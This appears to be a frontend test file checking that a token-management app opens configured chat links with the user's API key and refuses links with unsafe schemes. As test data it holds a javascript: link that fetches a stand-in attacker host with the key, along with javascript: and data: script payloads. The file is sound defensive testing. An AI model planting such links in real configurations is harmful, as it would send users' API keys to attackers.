import { fireEvent, screen } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { toast } from '../../components/feedback';
import { changeLanguage } from '../../i18n';
import { renderApp } from '../../testing/render-app';
import { TokenRowActions } from '../token/token-row-actions';
import { tokenView } from '../../testing/token-fixtures';

const key = 'k'.repeat(48);
const routes = [{ path: '/', element: <TokenRowActions token={tokenView({ key })} onEdit={() => undefined} /> }];
const render = (status: Record<string, unknown>) =>
  renderApp(routes, {
    status: { chat_link: '', chat_link2: '', server_address: 'https://api.example.com', ...status },
  });
/** The chat entries live in the token row's "more" menu. */
async function openMenu() {
  fireEvent.click(await screen.findByTestId('token-more'));
}
const chatEntry = async () => {
  await openMenu();
  return screen.findByTestId('token-chat');
};

describe('the token chat action in the row menu', () => {
  beforeEach(() => changeLanguage('en'));
  afterEach(() => vi.restoreAllMocks());

  it('opens the only configured link at once', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    render({ chats: [{ Only: 'https://chat.example/?key={key}' }] });
    fireEvent.click(await chatEntry());
    await vi.waitFor(() =>
      expect(open).toHaveBeenCalledWith(`https://chat.example/?key=sk-${key}`, '_blank', 'noopener,noreferrer'),
    );
  });

  it('offers one entry per link when several are configured', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    render({ chats: [{ One: 'https://one.example/{key}' }, { Two: 'https://two.example/{key}' }] });
    await openMenu();
    fireEvent.click(await screen.findByText('Chat: Two'));
    await vi.waitFor(() =>
      expect(open).toHaveBeenCalledWith(`https://two.example/sk-${key}`, '_blank', 'noopener,noreferrer'),
    );
  });

  it.each([
    'javascript:fetch("//evil.example/?k={key}")',
    ' JavaScript:alert("{key}")',
    'data:text/html,<script>alert("{key}")</script>',
  ])('never follows a stored script link (%s): nothing opens, and the user hears why', async (link) => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    const error = vi.spyOn(toast, 'error');
    render({ chats: [{ Evil: link }] });
    fireEvent.click(await chatEntry());
    await vi.waitFor(() => expect(error).toHaveBeenCalled());
    expect(open).not.toHaveBeenCalled();
    expect(error).toHaveBeenCalledWith(
      'This chat link uses an unsafe scheme (javascript:, data:, vbscript: or file:) and was not opened; please contact the administrator',
    );
  });

  it('never follows an unsafe older single link either', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    render({ chats: [], chat_link: 'javascript:alert("{key}")' });
    fireEvent.click(await chatEntry());
    expect(open).not.toHaveBeenCalled();
  });

  it('asks for the administrator when none are configured', async () => {
    const warning = vi.spyOn(toast, 'warning');
    render({ chats: [] });
    fireEvent.click(await chatEntry());
    expect(warning).toHaveBeenCalledWith('Please contact the administrator to configure chat links');
  });

  it('reports a broken configuration', async () => {
    const error = vi.spyOn(toast, 'error');
    render({ chats: 'not json' });
    fireEvent.click(await chatEntry());
    expect(error).toHaveBeenCalledWith('Chat link configuration error, please contact the administrator');
  });
});
